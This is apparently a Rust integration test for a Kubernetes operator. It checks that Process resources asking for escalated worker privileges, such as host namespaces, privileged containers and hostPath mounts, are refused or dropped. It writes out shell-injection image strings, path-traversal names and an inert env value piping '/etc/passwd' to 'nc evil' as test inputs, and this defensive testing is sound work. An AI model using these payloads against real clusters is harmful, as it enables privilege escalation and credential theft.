//! F45: who may write a Process asks for more than a worker needs. Each attempt is refused with the name of
//! its field. A client that has unknown fields ignored gets them dropped: they make no version and reach no
//! pod.

use anyhow::{Context as _, Result, ensure};
use kube::ResourceExt as _;
use process_operator_harness::{Env, manifest};
use serde_json::{Value, json};

use crate::scenario::at_rest;
use crate::world::{NAME, World};

/// Writes what the schema does not know: what it is, where it is put, and what.
fn unknown() -> Vec<(&'static str, &'static str, Value)> {
    let sources = json!([{ "serviceAccountToken": { "path": "token" } }]);
    vec![
        (
            "spec.worker.hostNetwork",
            "/worker/hostNetwork",
            json!(true),
        ),
        ("spec.worker.hostPID", "/worker/hostPID", json!(true)),
        ("spec.worker.hostIPC", "/worker/hostIPC", json!(true)),
        ("spec.worker.hostUsers", "/worker/hostUsers", json!(false)),
        ("spec.worker.nodeName", "/worker/nodeName", json!("node")),
        (
            "spec.worker.runtimeClassName",
            "/worker/runtimeClassName",
            json!("none"),
        ),
        (
            "spec.worker.priorityClassName",
            "/worker/priorityClassName",
            json!("system-node-critical"),
        ),
        (
            "spec.worker.shareProcessNamespace",
            "/worker/shareProcessNamespace",
            json!(true),
        ),
        (
            "spec.worker.automountServiceAccountToken",
            "/worker/automountServiceAccountToken",
            json!(true),
        ),
        (
            "spec.worker.initContainers",
            "/worker/initContainers",
            json!([{ "name": "a", "image": "b" }]),
        ),
        (
            "spec.worker.lifecycle",
            "/worker/lifecycle",
            json!({ "postStart": { "exec": { "command": ["reboot"] } } }),
        ),
        (
            "spec.worker.securityContext.privileged",
            "/worker/securityContext",
            json!({ "privileged": true }),
        ),
        (
            "spec.worker.securityContext.procMount",
            "/worker/securityContext",
            json!({ "procMount": "Unmasked" }),
        ),
        (
            "spec.worker.securityContext.capabilities",
            "/worker/securityContext",
            json!({ "capabilities": { "add": ["SYS_ADMIN"] } }),
        ),
        (
            "spec.worker.securityContext.seccompProfile",
            "/worker/securityContext",
            json!({ "seccompProfile": { "type": "Unconfined" } }),
        ),
        (
            "spec.serviceAccountName",
            "/serviceAccountName",
            json!("admin"),
        ),
        ("spec.template", "/template", json!({ "spec": {} })),
        (
            "spec.temporal.address",
            "/temporal/address",
            json!("evil:7233"),
        ),
        ("spec.selector", "/selector", json!({ "app": "other" })),
        (
            "spec.worker.volumes[0].hostPath",
            "/worker/volumes",
            json!([{ "name": "a", "emptyDir": {}, "hostPath": { "path": "/" } }]),
        ),
        (
            "spec.worker.volumes[0].projected",
            "/worker/volumes",
            json!([{ "name": "a", "emptyDir": {}, "projected": { "sources": sources } }]),
        ),
    ]
}

/// Writes that are refused even by those who have unknown fields ignored, and what of the field is told.
fn refused() -> Vec<(&'static str, &'static str, Value)> {
    let image = "spec.image";
    let reads = |name: &str| json!([{ "name": "A", "valueFrom": { "secretKeyRef": { "name": name, "key": "k" } } }]);
    let from = "spec.worker.env[0].valueFrom.secretKeyRef.name";
    let own = |name: &str| json!([{ "name": name, "value": "evil:7233" }]);
    let mount = |path: &str, part: &str| {
        json!({
            "volumes": [{ "name": "a", "emptyDir": {} }],
            "volumeMounts": [{ "name": "a", "mountPath": path, "subPath": part }],
        })
    };
    vec![
        (image, "/image", json!("worker:v1;reboot")),
        (image, "/image", json!("$(reboot)")),
        (image, "/image", json!("`id`")),
        (image, "/image", json!("worker:v1 | sh")),
        (image, "/image", json!("worker:v1&&sh")),
        (image, "/image", json!("worker:v1\nRUN id")),
        (image, "/image", json!("-v/:/host")),
        (image, "/image", json!("../worker")),
        (from, "/worker/env", reads("../other")),
        (from, "/worker/env", reads("other/secret")),
        ("spec.worker.env", "/worker/env", own("TEMPORAL_ADDRESS")),
        ("spec.worker.env", "/worker/env", own("TASK_QUEUE")),
        ("spec.worker.env", "/worker/env", own("PROCESS_TENANT_ID")),
        (
            "spec.worker.serviceAccountName",
            "/worker/serviceAccountName",
            json!("../admin"),
        ),
        (
            "spec.worker.serviceAccountName",
            "/worker/serviceAccountName",
            json!("system:serviceaccount:kube-system:admin"),
        ),
        (
            "spec.worker.podLabels",
            "/worker/podLabels",
            json!({ "ameide.io/build-id": "v0-00000000" }),
        ),
        (
            "spec.worker.podLabels",
            "/worker/podLabels",
            json!({ "app.kubernetes.io/instance": "other" }),
        ),
        (
            "spec.worker.podAnnotations",
            "/worker/podAnnotations",
            json!({ "ameide.io/request": "{}" }),
        ),
        (
            "spec.worker.volumes[0]",
            "/worker/volumes",
            json!([{ "name": "a", "hostPath": { "path": "/" } }]),
        ),
        (
            "spec.worker.volumeMounts",
            "/worker",
            mount("/a/../etc", "b"),
        ),
        ("spec.worker.volumeMounts", "/worker", mount("/a", "../b")),
        (
            "spec.worker.securityContext.runAsUser",
            "/worker/securityContext",
            json!({ "runAsUser": 0 }),
        ),
        (
            "spec.temporal.connectionSecretRef.name",
            "/temporal/connectionSecretRef",
            json!({ "name": "kube-system/admin" }),
        ),
        (
            "spec.temporal.namespace",
            "/temporal/namespace",
            json!("../control"),
        ),
        (
            "spec.temporal.taskQueue",
            "/temporal/taskQueue",
            json!("/_sys/a/1"),
        ),
        (
            "spec.definitionRef.configMapRef.name",
            "/definitionRef/configMapRef",
            json!({ "name": "../other" }),
        ),
    ]
}

/// A merge patch of the spec.
fn change(pointer: &str, value: &Value) -> Value {
    let mut parts = pointer.rsplit('/').filter(|part| !part.is_empty());
    let leaf = parts.next().map(|part| json!({ part: value }));
    let spec = parts.fold(
        leaf.unwrap_or_default(),
        |inner, part| json!({ part: inner }),
    );
    json!({ "spec": spec })
}

/// Patches the Process; the API server's words when it refuses.
async fn write(env: &Env, validation: &str, patch: &Value) -> Result<Result<Value, String>> {
    let uri = format!(
        "/apis/ameide.io/v1/namespaces/{}/processes/{NAME}?fieldValidation={validation}",
        env.namespace
    );
    let request = http::Request::builder()
        .method("PATCH")
        .uri(uri)
        .header("Content-Type", "application/merge-patch+json")
        .body(serde_json::to_vec(patch)?)?;
    match env.kube.request::<Value>(request).await {
        Ok(object) => Ok(Ok(object)),
        Err(kube::Error::Api(answer)) => Ok(Err(answer.message.clone())),
        Err(error) => Err(error.into()),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_asks_for_more_than_a_worker_needs_is_refused_or_without_effect() -> Result<()> {
    let world = World::new("f45").await?;
    let env = &world.env;
    let mut wanted = manifest(env, NAME, "v1");
    // What a shell would make something of is a text like any other.
    let words = "$(id); `id` && cat /etc/passwd | nc evil 1 > ${HOME} \\ \"'";
    wanted["spec"]["worker"]["env"] = json!([{ "name": "WORDS", "value": words }]);
    env.apply(&wanted).await?;
    at_rest(&world, "v1").await?;
    let template = async || {
        let mut all = env.deployments(NAME).await?;
        ensure!(all.len() == 1, "{} Deployments", all.len());
        let deployment = all.pop().context("one")?;
        Ok((
            deployment.uid(),
            deployment.spec.context("a spec")?.template,
        ))
    };
    let before = template().await?;
    let shown = serde_json::to_value(&before.1)?;
    let variables = shown.pointer("/spec/containers/0/env");
    let words = json!({ "name": "WORDS", "value": words });
    let variables = variables.and_then(Value::as_array).context("variables")?;
    ensure!(variables.contains(&words), "{variables:?}");

    let mut wrong = Vec::new();
    let mut expect =
        |what: &str, how: &str, field: &str, answer: Result<Value, String>| match answer {
            Ok(_) => wrong.push(format!("{what} was accepted ({how})")),
            Err(words) if words.contains(field) => {}
            Err(words) => wrong.push(format!("{what}: {field} is not named ({how}): {words}")),
        };
    for (field, pointer, value) in unknown().into_iter().chain(refused()) {
        let what = format!("{pointer} {value}");
        let answer = write(env, "Strict", &change(pointer, &value)).await?;
        expect(&what, "Strict", field, answer);
    }
    for (field, pointer, value) in refused() {
        let what = format!("{pointer} {value}");
        let answer = write(env, "Ignore", &change(pointer, &value)).await?;
        expect(&what, "Ignore", field, answer);
    }
    ensure!(wrong.is_empty(), "{wrong:#?}");

    let generation = env
        .api::<process_operator_crds::Process>()
        .get(NAME)
        .await?;
    let generation = generation.metadata.generation;
    for (field, pointer, value) in unknown() {
        // Beside a source that is unknown there has to be one that is not.
        if field.contains("volumes") {
            continue;
        }
        let answer = write(env, "Ignore", &change(pointer, &value)).await?;
        let answer = answer.map_err(|why| anyhow::anyhow!("{field}: {why}"))?;
        let spec = answer["spec"].to_string();
        let leaf = field.rsplit('.').next().unwrap_or(field);
        ensure!(!spec.contains(&format!("\"{leaf}\"")), "{field}: {spec}");
    }
    at_rest(&world, "v1").await?;
    let after = env
        .api::<process_operator_crds::Process>()
        .get(NAME)
        .await?;
    println!(
        "generation {generation:?}, then {:?}",
        after.metadata.generation
    );
    ensure!(template().await? == before, "the workers are as they were");
    world.finish().await
}
